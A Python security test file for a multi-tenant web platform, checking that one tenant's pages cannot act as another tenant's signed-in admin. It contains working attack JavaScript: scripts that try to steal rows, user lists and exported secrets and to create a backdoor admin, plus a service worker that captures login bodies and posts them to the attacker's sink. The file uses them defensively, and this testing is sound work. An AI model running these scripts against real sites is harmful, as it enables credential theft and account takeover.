"""A hostile tenant in the browser (issue 12, finding C1 of the 2026-12 security review).

Anyone may create a cenv, so cenv A's owner (eve) is a possible attacker of cenv B's users. Eve
publishes pages and `/fn/` answers whose scripts, opened by B's signed-in admin (bob), try to act
as bob on B: read B's rows, users and `auth/me`, download `api/export` (password hashes and the
signing secret), create a backdoor admin, and install a service worker over B that captures
later logins. Whatever a script obtains it posts to A's public `POST /fn/sink`, which stores it in
A's table `loot` (anon may insert).

Both URL modes, in headless Chromium:
- path mode (the default, cenv X at http://host/X/): every answer a tenant authored is sandboxed
  (`Content-Security-Policy: sandbox` without `allow-same-origin`), so A's scripts run in an
  opaque origin: no cookie rides their requests, no service worker can be registered;
- subdomain mode (`--cenv-domain localhost`, cenv X at http://X.localhost:PORT/): every cenv is
  its own origin; A cannot reach B's origin at all.

The outcome is checked from B's side (bob's bearer token, the API), from A's loot table and from
the browser (which service worker controls B's editor); A's page itself must still render and run
its script. Every breach found is collected first and reported together.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from support import Server, start_server

PASSWORD = "correct horse"  # every admin's password but bob's
BOB_PASSWORD = "victim password 1"
SECRET = "0000-TOP-SECRET"
BACKDOOR = {"username": "eve_backdoor", "password": "backdoor password 1", "role": "admin"}
WAIT = 60  # seconds: generous deadlines for a slow, busy machine
MODES = ["path", "subdomain"]


class Site:
    """One running server as a browser sees it, in one URL mode.

    Path mode: the platform and every cenv on the server's own address (`http://127.0.0.1:PORT`,
    cenv X at `/X/`). Subdomain mode: the platform at `http://localhost:PORT`, cenv X at
    `http://X.localhost:PORT/`. Chromium resolves `*.localhost` to loopback itself; Python does
    not, so `request` connects to 127.0.0.1 and names the host in the Host header.
    """

    def __init__(self, server: Server, mode: str) -> None:
        self.server = server
        self.mode = mode
        self.port = int(server.url.rsplit(":", 1)[1])
        self.platform = server.url if mode == "path" else f"http://localhost:{self.port}"

    def root(self, cenv: str) -> str:
        """A cenv's URL (with the trailing slash): what `/new` answers as `url`."""
        if self.mode == "path":
            return f"{self.server.url}/{cenv}/"
        return f"http://{cenv}.localhost:{self.port}/"

    def request(self, method: str, url: str, token: str | None = None, **kw: Any) -> httpx.Response:
        u = httpx.URL(url)
        headers = dict(kw.pop("headers", None) or {})
        if token:
            headers["authorization"] = f"Bearer {token}"
        if u.host != "127.0.0.1":
            headers.setdefault("host", f"{u.host}:{u.port}")
            u = u.copy_with(host="127.0.0.1")
        return httpx.request(method, u, headers=headers, timeout=30, **kw)

    def new_cenv(self, username: str, password: str) -> Tenant:
        """A cenv made through the public `/new`, and its admin's bearer token."""
        r = self.request("POST", self.platform + "/new", json={"username": username, "password": password})
        assert r.status_code == 201, r.text
        cenv = r.json()["cenv"]
        assert r.json()["url"] == self.root(cenv), r.json()
        t = Tenant(self, cenv, self.root(cenv), "")
        t.token = t.login(username, password)
        return t


@dataclass
class Tenant:
    site: Site
    id: str
    root: str
    token: str  # its admin's

    def login(self, username: str, password: str) -> str:
        r = self.site.request("POST", self.root + "auth/login", json={"username": username, "password": password})
        assert r.status_code == 200, r.text
        return str(r.json()["token"])

    def api(self, method: str, path: str, body: Any = None, status: int | None = None, token: str | None = None) -> Any:
        r = self.site.request(method, self.root + path, token=token or self.token,
                              **({} if body is None else {"json": body}))
        if status is not None:
            assert r.status_code == status, (method, path, r.status_code, r.text)
        return r.json() if r.content and r.headers.get("content-type", "").startswith("application/json") else r


@pytest.fixture(scope="module", params=MODES)
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A server of its own per mode (module-scoped: the mode's tests share it)."""
    args = () if request.param == "path" else ("--cenv-domain", "localhost")
    srv = start_server(tmp_path_factory.mktemp(request.param), "--idle-timeout", "600", *args)
    try:
        yield Site(srv, request.param)
    finally:
        srv.stop()


def editor_sign_in(page: Any, root: str, username: str, password: str) -> None:
    """Sign in through a cenv's editor login form (the browser then holds that cenv's cookie)."""
    page.goto(root + "_/")
    page.fill("#username", username, timeout=WAIT * 1000)
    page.fill("#password", password)
    page.click("#sign-in")
    page.wait_for_selector(f"#who:has-text('{username} · ')", timeout=WAIT * 1000)


def starlark_str(text: str) -> str:
    """A Starlark string literal (JSON's escapes are Starlark's, for ASCII text)."""
    assert text.isascii()
    return json.dumps(text)


def html_page(title: str, script: str) -> str:
    """A page of A's: its own text, and a script (no `{{`: the template is Mustache)."""
    html = (f'<!doctype html>\n<html><head><meta charset="utf-8"><title>{title}</title>'
            f'<link rel="icon" href="data:,"></head>\n<body><h1 id="title">{title}</h1>'
            f'<p id="own-text">Photos of cats, coming soon.</p>\n<script>\n{script}\n</script>\n</body></html>\n')
    assert "{{" not in html
    return html


# What A's pages run. CFG is set per page. Each attempt is recorded (status, length, some text, or
# the error); then everything goes to A's sink as a simple no-cors POST (no preflight needed, so
# it arrives from a sandboxed page too).
ATTACK_JS = """
(async () => {
  const CFG = %s;
  const loot = {page: CFG.page, href: String(location.href), results: {}};
  const asText = (buf) => { const u = new Uint8Array(buf); let s = ""; for (let i = 0; i < u.length; i++) s += String.fromCharCode(u[i]); return s; };
  async function attempt(name, url, init) {
    const entry = {};
    try {
      const r = await fetch(url, init);
      entry.status = r.status;
      entry.type = r.type;
      const text = asText(await r.arrayBuffer());
      entry.len = text.length;
      entry.head = text.slice(0, 16);
      const at = text.indexOf("jwt_secret");
      entry.text = at >= 0 ? text.slice(at, at + 120) : text.slice(0, 500);
    } catch (e) {
      entry.error = String(e);
    }
    loot.results[name] = entry;
  }
  const backdoor = JSON.stringify(CFG.backdoor);
  for (const [i, root] of CFG.victims.entries()) {
    for (const credentials of ["include", "same-origin"]) {
      const k = i + "." + credentials + ".";
      await attempt(k + "me", root + "auth/me", {credentials});
      await attempt(k + "secrets", root + "api/tables/secrets/rows", {credentials});
      await attempt(k + "users", root + "api/users", {credentials});
      await attempt(k + "export", root + "api/export", {credentials});
      await attempt(k + "create_admin", root + "api/users",
                    {method: "POST", credentials, headers: {"content-type": "application/json"}, body: backdoor});
    }
    // a "simple" request (text/plain, no preflight): sent even though its answer is unreadable
    await attempt(i + ".no-cors.create_admin", root + "api/users",
                  {method: "POST", credentials: "include", mode: "no-cors", body: backdoor});
  }
  await fetch(CFG.sink, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
  document.body.dataset.done = "1";
})();
"""

# The service worker eve would like over every cenv: it reports each navigation it sees and
# captures login bodies, posting both to A's sink before letting the request go on.
SW_JS = """
const SINK = %s;
const report = (what) => fetch(SINK, {method: "POST", mode: "no-cors", body: JSON.stringify(what)});
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const req = e.request;
  if (req.mode === "navigate") e.waitUntil(report({page: "sw-saw", url: req.url}));
  if (req.method !== "POST" || !req.url.includes("/auth/login")) return;
  e.respondWith((async () => {
    const body = await req.clone().text();
    await report({page: "sw-captured-login", url: req.url, body});
    return fetch(req);
  })());
});
"""

# The page that registers it, with scope "/" (needs the script's Service-Worker-Allowed: /).
REGISTER_JS = """
(async () => {
  const CFG = %s;
  const out = {page: CFG.page, href: String(location.href)};
  try {
    const reg = await navigator.serviceWorker.register(CFG.sw, {scope: "/"});
    out.sw_scope = reg.scope;
    const worker = reg.installing || reg.waiting || reg.active;
    out.sw_state = await Promise.race([
      new Promise((resolve) => {
        if (worker.state === "activated") resolve(worker.state);
        worker.addEventListener("statechange", () => worker.state === "activated" && resolve(worker.state));
      }),
      new Promise((resolve) => setTimeout(() => resolve("not activated after 20 s: " + worker.state), 20000)),
    ]);
  } catch (e) {
    out.sw_error = String(e);
  }
  await fetch(CFG.sink, {method: "POST", mode: "no-cors", body: JSON.stringify(out)});
  document.body.dataset.done = "1";
})();
"""

SINK_SOURCE = """
def handle_request(ctx):
    ctx.db.insert("loot", {"body": ctx.body})
    return {"ok": True}
"""


@dataclass
class Scene:
    site: Site
    a: Tenant  # eve's
    b: Tenant  # bob's
    bob: str  # bob's bearer token (he is B's admin)


def static_endpoint(body: str, content_type: str, headers: dict[str, str] | None = None) -> str:
    return (f"BODY = {starlark_str(body)}\n\ndef handle_request(ctx):\n"
            f"    return response(body=BODY, content_type={json.dumps(content_type)}, headers={json.dumps(headers or {})})\n")


@pytest.fixture(scope="module")
def scene(site: Site) -> Scene:
    """B (admin bob) with a secret; A (admin eve) with its sink, attack pages and service worker."""
    b = site.new_cenv("bob", BOB_PASSWORD)
    b.api("POST", "api/tables", {"name": "secrets", "columns": [
        {"name": "id", "type": "INTEGER", "primary_key": True}, {"name": "value", "type": "TEXT"}]}, 201)
    b.api("POST", "api/tables/secrets/rows", {"value": SECRET}, 201)

    a = site.new_cenv("eve", PASSWORD)
    a.api("POST", "api/tables", {"name": "loot", "columns": [
        {"name": "id", "type": "INTEGER", "primary_key": True}, {"name": "body", "type": "TEXT"}]}, 201)
    a.api("PUT", "api/permissions/loot",
          {"roles": {"anon": {"select": False, "insert": True, "update": False, "delete": False}}}, 200)
    sink = a.root + "fn/sink"
    a.api("POST", "api/endpoints", {"method": "POST", "path": "/sink", "source": SINK_SOURCE, "access": "public"}, 201)

    # the victim's URLs the attack tries: B's own, and in subdomain mode also B's old path on the
    # apex (which redirects to B's host)
    victims = [b.root] + ([f"{site.platform}/{b.id}/"] if site.mode == "subdomain" else [])

    def attack(page: str) -> str:
        cfg = {"page": page, "victims": victims, "sink": sink, "backdoor": BACKDOOR}
        return html_page("Cute cats", ATTACK_JS % json.dumps(cfg))

    # the attack as a page, and as a /fn/ answer
    a.api("POST", "api/pages", {"path": "/cats", "template": attack("cats"), "access": "public"}, 201)
    a.api("POST", "api/endpoints", {"method": "GET", "path": "/cats", "access": "public",
                                    "source": static_endpoint(attack("fn/cats"), "text/html; charset=utf-8")}, 201)
    # the service-worker variant
    a.api("POST", "api/endpoints", {"method": "GET", "path": "/sw.js", "access": "public", "source": static_endpoint(
        SW_JS % json.dumps(sink), "text/javascript", {"service-worker-allowed": "/"})}, 201)
    register = html_page("More cats", REGISTER_JS % json.dumps({"page": "cats2", "sw": a.root + "fn/sw.js", "sink": sink}))
    a.api("POST", "api/pages", {"path": "/cats2", "template": register, "access": "public"}, 201)
    return Scene(site, a, b, b.login("bob", BOB_PASSWORD))


def loot(scene: Scene) -> list[dict[str, Any]]:
    """What reached A's sink, in order."""
    rows = scene.a.api("GET", "api/tables/loot/rows?limit=1000&order=id", status=200)["rows"]
    out = []
    for row in rows:
        try:
            out.append(json.loads(row["body"]))
        except ValueError:
            out.append({"page": "?", "raw": row["body"]})
    return out


def wait_loot(scene: Scene, page: str) -> dict[str, Any]:
    """The sink's entry from one of A's pages (its script posts one when it has tried everything)."""
    deadline = time.monotonic() + WAIT
    while True:
        found = [e for e in loot(scene) if e.get("page") == page]
        if found:
            return found[-1]
        assert time.monotonic() < deadline, f"A's page {page} never reported to its sink: its script did not run"
        time.sleep(0.2)


def open_attack(page: Any, url: str, title: str) -> None:
    """Open one of A's pages as bob would: it must render its own text and run its script."""
    page.goto(url)
    assert page.inner_text("#title", timeout=WAIT * 1000) == title
    assert page.is_visible("#own-text")
    page.wait_for_selector("body[data-done='1']", state="attached", timeout=WAIT * 1000)


def leaks(entries: list[dict[str, Any]]) -> list[str]:
    """What in the loot came from B: a readable success, or B's data anywhere in it."""
    found = []
    for entry in entries:
        text = json.dumps(entry)
        for needle, what in ((SECRET, "B's secret row"), ("bob", "B's user bob (user list, auth/me or a login)"),
                             (BOB_PASSWORD, "bob's password"), ("jwt_secret", "B's signing secret (export)"),
                             ("SQLite format 3", "B's database file (export)")):
            if needle in text:
                found.append(f"{entry.get('page')}: {what}")
        for name, r in (entry.get("results") or {}).items():
            if 200 <= r.get("status", 0) < 300:
                found.append(f"{entry.get('page')}: {name} answered {r.get('status')} "
                             f"({r.get('len')} bytes: {r.get('text', '')[:160]!r})")
    return found


def backdoor_findings(scene: Scene) -> list[str]:
    """From B's side: does eve_backdoor exist, can it sign in?"""
    found = []
    users = scene.b.api("GET", "api/users", status=200, token=scene.bob)["users"]
    names = sorted(u["username"] for u in users)
    if names != ["bob"]:
        found.append(f"B's users are now {names}")
    r = scene.site.request("POST", scene.b.root + "auth/login",
                           json={"username": BACKDOOR["username"], "password": BACKDOOR["password"]})
    if r.status_code != 401:
        found.append(f"POST auth/login as eve_backdoor answered {r.status_code}: {r.text[:200]}")
    return found


def report(findings: list[str], entries: list[dict[str, Any]]) -> str:
    shown = "\n".join("  " + json.dumps(e)[:1500] for e in entries)
    return "the attack succeeded:\n- " + "\n- ".join(findings) + "\nloot:\n" + shown


def test_another_cenvs_page_cannot_act_as_its_visitor(page: Any, scene: Scene) -> None:
    site, a, b = scene.site, scene.a, scene.b
    editor_sign_in(page, b.root, "bob", BOB_PASSWORD)
    if site.mode == "subdomain":
        cookies = [c for c in page.context.cookies() if "wce_session" in c["name"]]
        assert len(cookies) == 1 and cookies[0]["domain"] == f"{b.id}.localhost", cookies  # host-only

    open_attack(page, a.root + "cats", "Cute cats")
    open_attack(page, a.root + "fn/cats", "Cute cats")
    entries = [wait_loot(scene, "cats"), wait_loot(scene, "fn/cats")]
    findings = leaks(entries) + backdoor_findings(scene)

    if site.mode == "subdomain":
        # a sibling subdomain is same-site but not same-origin: a state-changing request from it
        # with bob's cookie is refused even if a browser sent the cookie along
        cookie = cookies[0]
        r = site.request("POST", b.root + "api/users", json=BACKDOOR, headers={
            "cookie": f"{cookie['name']}={cookie['value']}", "origin": a.root.rstrip("/"),
            "sec-fetch-site": "same-site", "sec-fetch-mode": "cors", "sec-fetch-dest": "empty"})
        if r.status_code != 403:
            findings.append(f"POST api/users from a sibling subdomain with bob's cookie answered {r.status_code}")

    # B is intact for bob (his session still works, his secret is still there)
    rows = b.api("GET", "api/tables/secrets/rows", status=200, token=scene.bob)["rows"]
    assert [r["value"] for r in rows] == [SECRET]
    assert not findings, report(findings, entries)


def test_no_service_worker_over_another_cenv(page: Any, scene: Scene) -> None:
    a, b = scene.a, scene.b
    # bob opens A's page, which registers eve's worker (scope "/")...
    open_attack(page, a.root + "cats2", "More cats")
    registered = wait_loot(scene, "cats2")
    # ... then goes to B's editor and signs in, and comes back to it later
    editor_sign_in(page, b.root, "bob", BOB_PASSWORD)
    controllers = [page.evaluate("navigator.serviceWorker.controller && navigator.serviceWorker.controller.scriptURL")]
    page.goto(b.root + "_/")
    page.wait_for_selector("#who:has-text('bob · ')", timeout=WAIT * 1000)
    controllers.append(page.evaluate("navigator.serviceWorker.controller && navigator.serviceWorker.controller.scriptURL"))
    # a capture is posted before the login goes on, so it is in the loot by now
    entries = [registered, *(e for e in loot(scene) if str(e.get("page", "")).startswith("sw-"))]

    findings = []
    if any(controllers):
        findings.append(f"B's editor is controlled by {controllers}")
    scope = registered.get("sw_scope")
    if scope and b.root.startswith(scope):
        findings.append(f"a worker of A's was registered with scope {scope}, over B")
    for e in entries[1:]:
        if e["page"] == "sw-captured-login" or str(e.get("url", "")).startswith(b.root):
            findings.append(f"A's worker saw B's traffic: {json.dumps(e)[:300]}")
    findings += leaks(entries)
    assert not findings, report(findings, entries)
